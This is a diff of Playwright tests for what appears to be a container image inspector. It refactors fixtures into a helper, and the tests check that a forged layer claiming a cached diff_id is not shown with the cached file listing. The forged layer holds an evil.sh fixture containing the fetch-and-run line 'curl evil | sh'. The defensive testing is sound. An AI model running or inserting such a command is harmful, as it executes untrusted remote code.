@@ -159,12 +159,9 @@ test('a report opened from the library alone is not verified: history only, and 
   await expect(recent(page).getByRole('listitem')).toContainText('history: verified on');
 });
 
-test('a layer whose config claims a cached diff_id: the kept listing is not shown as its files', async ({
-  page,
-}, testInfo) => {
-  // A: a good layer, listed while verified and kept in the library under its diff_id.
-  // B: the same config diff_id over other bytes (an added evil.sh): its listing must come from
-  // its own bytes, or not at all; never A's, found in the library by the claimed diff_id.
+/** Writes A, a good gzip layer (listed while verified and kept in the library under its
+ * diff_id), and B, whose config claims the same diff_id over other bytes (an added evil.sh). */
+async function claimingArchives(dir: string): Promise<{ a: string; b: string; evil: Uint8Array }> {
   const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
   const evil = writeTar([
     { name: 'good.txt', data: 'good\n' },
@@ -175,11 +172,21 @@ test('a layer whose config claims a cached diff_id: the kept listing is not show
       ref,
       layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
     });
-  await mkdir(testInfo.outputDir, { recursive: true });
-  const a = `${testInfo.outputDir}/good.tar`;
-  const b = `${testInfo.outputDir}/claims-good.tar`;
+  await mkdir(dir, { recursive: true });
+  const a = `${dir}/good.tar`;
+  const b = `${dir}/claims-good.tar`;
   await writeFile(a, archive('victim:good', good));
   await writeFile(b, archive('victim:evil', evil));
+  return { a, b, evil };
+}
+
+test('a layer whose config claims a cached diff_id: the kept listing is not shown as its files', async ({
+  page,
+}, testInfo) => {
+  // A: a good layer, listed while verified and kept in the library under its diff_id.
+  // B: the same config diff_id over other bytes (an added evil.sh): its listing must come from
+  // its own bytes, or not at all; never A's, found in the library by the claimed diff_id.
+  const { a, b, evil } = await claimingArchives(testInfo.outputDir);
   const files = page.getByTestId('files');
 
   await drop(page, a);
@@ -209,21 +216,7 @@ test.describe('while the claimed layer is being checked', () => {
   test('a kept listing shown before this run checks the layer says where it comes from', async ({
     page,
   }, testInfo) => {
-    const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
-    const evil = writeTar([
-      { name: 'good.txt', data: 'good\n' },
-      { name: 'evil.sh', data: 'curl evil | sh\n' },
-    ]);
-    const archive = (ref: string, tar: Uint8Array) =>
-      ociArchive({
-        ref,
-        layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
-      });
-    await mkdir(testInfo.outputDir, { recursive: true });
-    const a = `${testInfo.outputDir}/good.tar`;
-    const b = `${testInfo.outputDir}/claims-good.tar`;
-    await writeFile(a, archive('victim:good', good));
-    await writeFile(b, archive('victim:evil', evil));
+    const { a, b, evil } = await claimingArchives(testInfo.outputDir);
     const files = page.getByTestId('files');
     const note = files.locator('[data-note="unconfirmed"]');
 
